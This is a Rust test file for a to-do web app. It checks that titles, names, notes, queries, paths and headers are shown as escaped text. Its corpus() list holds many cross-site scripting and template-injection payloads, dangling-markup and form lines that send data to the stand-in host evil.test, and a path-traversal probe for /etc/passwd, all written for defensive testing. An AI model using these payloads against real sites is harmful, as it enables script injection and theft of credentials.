//! What people type is text, wherever it is shown.

use crate::support::{Answer, html::tags, on_each_database};
use app::model::{PersonName, without_unseen};
use std::cell::Cell;

/// Tags, handlers, ends of what surrounds the text, and what only looks like markup to somebody.
fn corpus() -> Vec<String> {
    let tags = [
        "<script>alert(1)</script>",
        "</script><script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><animate onbegin=alert(1) attributeName=x>",
        "<svg><script>alert(1)</script>",
        "<math><annotation-xml encoding=text/html><img src=x onerror=alert(1)>",
        "<style>@import '//evil.test'</style>",
        "<base href=//evil.test>",
        "<meta http-equiv=refresh content='0;url=//evil.test'>",
        "<form action=//evil.test><input name=password>",
        "<iframe src=javascript:alert(1)>",
        "<iframe srcdoc='<script>alert(1)</script>'>",
        "<object data=//evil.test>",
        "<embed src=//evil.test>",
        "<link rel=stylesheet href=//evil.test>",
        "<a href=javascript:alert(1)>x</a>",
        "<a ping=//evil.test href=/>x</a>",
        "<body onload=alert(1)>",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=alert(1)>",
        "<audio src=x onerror=alert(1)>",
        "<input autofocus onfocus=alert(1)>",
        "<select autofocus onfocus=alert(1)>",
        "<textarea autofocus onfocus=alert(1)>",
        "<marquee onstart=alert(1)>",
        "<table background=javascript:alert(1)>",
        "<isindex action=javascript:alert(1)>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
        "<template><script>alert(1)</script></template>",
        "<img src='//evil.test?",
        "<img src=\"//evil.test?",
        "<!--",
        "-->",
        "<!--><script>alert(1)</script>",
        "<![CDATA[<script>alert(1)</script>]]>",
        "<?xml version='1.0'?>",
        "<!DOCTYPE html>",
        "</title><script>alert(1)</script>",
        "</textarea><script>alert(1)</script>",
        "</style><script>alert(1)</script>",
        "</noscript><script>alert(1)</script>",
        "</head><body><script>alert(1)</script>",
        "</html>",
        "</li></ul><script>alert(1)</script>",
        "</label></form><form>",
    ];
    let attributes = [
        "\" onmouseover=\"alert(1)",
        "' onmouseover='alert(1)",
        "\"><script>alert(1)</script>",
        "'><script>alert(1)</script>",
        "\" autofocus onfocus=\"alert(1)",
        "` onmouseover=`alert(1)",
        "\"/><img src=x onerror=alert(1)>",
        "x\" style=\"position:fixed",
        "\" formaction=\"//evil.test",
        "javascript:alert(1)",
        "\\\"><script>alert(1)</script>",
        "&quot;><script>alert(1)</script>",
        "&#34;><script>alert(1)</script>",
        "&lt;script&gt;alert(1)&lt;/script&gt;",
        "%3Cscript%3Ealert(1)%3C/script%3E",
        "\\u003cscript\\u003ealert(1)",
        "\\x3cscript\\x3e",
        "+ADw-script+AD4-alert(1)",
        "＜script＞alert(1)＜/script＞",
        "<ſcript>alert(1)</ſcript>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "<SCRIPT>alert(1)</SCRIPT>",
        "<script/x>alert(1)</script>",
        "<<script>alert(1)//<</script>",
    ];
    let templates = [
        "{{7*7}}",
        "${7*7}",
        "#{7*7}",
        "<%= 7*7 %>",
        "[x](javascript:alert(1))",
        "![x](x\"onerror=\"alert(1))",
        "__RESOLVED_RESOURCES[0]=1",
        "__LEPTOS_PENDING_RESOURCES",
        "<a id=__LEPTOS>",
        "<img name=cookie>",
        "];alert(1);//",
        "\";alert(1);//",
        "';alert(1);//",
        "</script>\u{2028}alert(1)",
        "\u{202e}cod\u{202c}",
        "\u{200b}\u{feff}",
        "&amp;&lt;&gt;",
        "a&b<c>d\"e'f",
        "<",
        ">",
        "&",
        "\"",
        "'",
        "&#x",
        "&notit;",
        "<>",
    ];
    [&tags[..], &attributes, &templates]
        .concat()
        .into_iter()
        .map(str::to_owned)
        .collect()
}

/// The oracle: the page has exactly the tags it has with harmless text, and no attribute more.
fn has_the_tags_of(answer: &Answer, harmless: &Answer, text: &str) {
    let (expected, actual) = (tags(harmless.text()), tags(answer.text()));
    assert_eq!(actual, expected, "with {text:?} in {}", answer.text());
    assert_eq!(answer.text().matches("<title>").count(), 1);
    assert_eq!(
        answer.text().matches("</script>").count(),
        harmless.text().matches("</script>").count(),
        "with {text:?}"
    );
    assert_eq!(
        answer.text().matches("<!--").count(),
        harmless.text().matches("<!--").count(),
        "with {text:?}"
    );
}

#[tokio::test]
async fn titles_are_text_in_the_list_and_in_the_edit_form() {
    on_each_database(async |app| {
        let ada = app.member("Ada").await;
        let shown = Cell::new(0);
        let show = async |title: &str| {
            ada.post_form("/todos", &[("intent", "complete-all")]).await;
            ada.post_form("/todos", &[("intent", "clear-completed")]).await;
            ada.get("/todos").await;
            // Those of before are in the trash, with their ids.
            shown.set(shown.get() + 1);
            let id = format!("00000000-0000-4000-8000-{:012}", shown.get());
            ada.rpc("todos/add", serde_json::json!({ "id": id, "title": title }))
                .await;
            (ada.get("/todos").await, ada.get(&format!("/todos?edit={id}")).await)
        };
        let harmless = show("harmless").await;
        for text in corpus() {
            let (list, edit) = show(&text).await;
            has_the_tags_of(&list, &harmless.0, &text);
            has_the_tags_of(&edit, &harmless.1, &text);
        }
    })
    .await;
}

#[tokio::test]
async fn names_are_text_in_the_header() {
    on_each_database(async |app| {
        let show = async |number: usize, name: &str| {
            let browser = app.guest();
            let answer = browser
                .sign_up(name, &format!("x{number}@example.com"), crate::support::PASSWORD)
                .await;
            assert_eq!(answer.status, 200, "{name}");
            browser.get("/").await
        };
        let harmless = show(999, "harmless").await;
        for (number, text) in corpus()
            .into_iter()
            .enumerate()
            .filter(|(_, text)| PersonName::parse(text).is_ok())
        {
            has_the_tags_of(&show(number, &text).await, &harmless, &text);
        }
    })
    .await;
}

#[tokio::test]
async fn refused_forms_show_text() {
    on_each_database(async |app| {
        let (guest, ada) = (app.guest(), app.member("Ada").await);
        let sign_up = async |text: &str| {
            guest
                .post_form("/sign-up", &[("name", text), ("email", text), ("password", "x")])
                .await
        };
        let sign_in = async |text: &str| guest.post_form("/sign-in", &[("email", text), ("password", "x")]).await;
        let add = async |text: &str| {
            // With a line break, so that it is refused.
            ada.post_form("/todos", &[("intent", "add"), ("title", &format!("{text}\n{text}"))])
                .await
        };
        let harmless = (
            sign_up("harmless").await,
            sign_in("harmless").await,
            add("harmless").await,
        );
        // What nobody sees is no name, and the form says so.
        for text in corpus().into_iter().filter(|text| !without_unseen(text).is_empty()) {
            for (answer, harmless, status) in [
                (sign_up(&text).await, &harmless.0, 422),
                (sign_in(&text).await, &harmless.1, 422),
                (add(&text).await, &harmless.2, 422),
            ] {
                assert_eq!(answer.status, status, "{text:?}");
                has_the_tags_of(&answer, harmless, &text);
            }
        }
    })
    .await;
}

#[tokio::test]
async fn queries_show_text() {
    on_each_database(async |app| {
        let guest = app.guest();
        let ask = async |path: &str, name: &str, text: &str| {
            let query = serde_urlencoded::to_string([(name, text)]).unwrap();
            guest.get(&format!("{path}?{query}")).await
        };
        for (path, name) in [
            ("/", "add"),
            ("/sign-in", "next"),
            ("/sign-up", "next"),
            ("/nowhere", "x"),
            ("/", "__err"),
            ("/sign-in", "q"),
        ] {
            let harmless = ask(path, name, "harmless").await;
            for text in corpus() {
                let answer = ask(path, name, &text).await;
                assert_eq!(answer.status, harmless.status);
                has_the_tags_of(&answer, &harmless, &text);
            }
        }
    })
    .await;
}

#[tokio::test]
async fn addresses_and_headers_are_not_shown() {
    on_each_database(async |app| {
        let guest = app.guest();
        let harmless = guest.get("/nowhere").await;
        for path in [
            "/%3Cscript%3Ealert(1)%3C/script%3E",
            "/nowhere/%22onerror=%22alert(1)",
            "/%00",
            "/%ff%fe",
            "/%C0%AE%C0%AE/",
            "/a;b=c",
            "/.%2e/.%2e/etc/passwd",
        ] {
            let answer = guest
                .get(path)
                .header("user-agent", "<script>alert(1)</script>")
                .header("referer", "https://x.test/<script>")
                .await;
            assert_eq!(answer.status, 404, "{path}");
            has_the_tags_of(&answer, &harmless, path);
        }
    })
    .await;
}

#[tokio::test]
async fn the_demo_shows_what_was_added_as_text() {
    on_each_database(async |app| {
        let page = app.guest().get("/?add=a%26b%3Cc%3E").await;
        assert!(page.text().contains("a&amp;b&lt;c&gt;"), "{}", page.text());
    })
    .await;
}

/// Leptos escapes nothing in a `<textarea>`.
#[tokio::test]
async fn notes_and_names_of_lists_are_text() {
    on_each_database(async |app| {
        let ada = app.member("Ada").await;
        let id = "00000000-0000-4000-8000-000000000001";
        ada.rpc("todos/add", serde_json::json!({ "id": id, "title": "Milk" }))
            .await;
        let path = format!("/todos/{id}");
        let inbox = ada.get("/todos").await.text().split("data-user=\"").nth(1).unwrap()[..36].to_owned();
        let show = async |text: &str| {
            let fields = [
                ("intent", "save"),
                ("title", "Milk"),
                ("notes", text),
                ("list", &*inbox),
            ];
            let saved = ada.post_form(&path, &fields).await;
            assert_eq!(saved.status, 303, "{text}: {saved:?}");
            ada.get("/todos").await;
            ada.get(&path).await
        };
        show("harmless").await;
        let harmless = show("harmless").await;
        for text in corpus()
            .into_iter()
            .chain(["</textarea><script>alert(1)</script>".to_owned()])
        {
            // What is no notes is refused, and not shown here.
            if app::model::TodoNotes::parse(&text).is_ok() {
                has_the_tags_of(&show(&text).await, &harmless, &text);
            }
        }
        let refused = ada
            .post_form(
                &path,
                &[("intent", "save"), ("notes", "</textarea><script>alert(1)</script>")],
            )
            .await;
        assert!(
            refused.status == 422 && !refused.text().contains("<script>alert"),
            "{}",
            refused.text()
        );
        let fields = [
            ("intent", "create"),
            ("name", "<script>alert(1)</script>"),
            ("colour", "red"),
        ];
        let list = ada.post_form("/lists/new", &fields).await;
        for path in [list.location(), "/todos/today", "/lists/new", &path] {
            assert!(!ada.get(path).await.text().contains("<script>alert"), "{path}");
        }
    })
    .await;
}
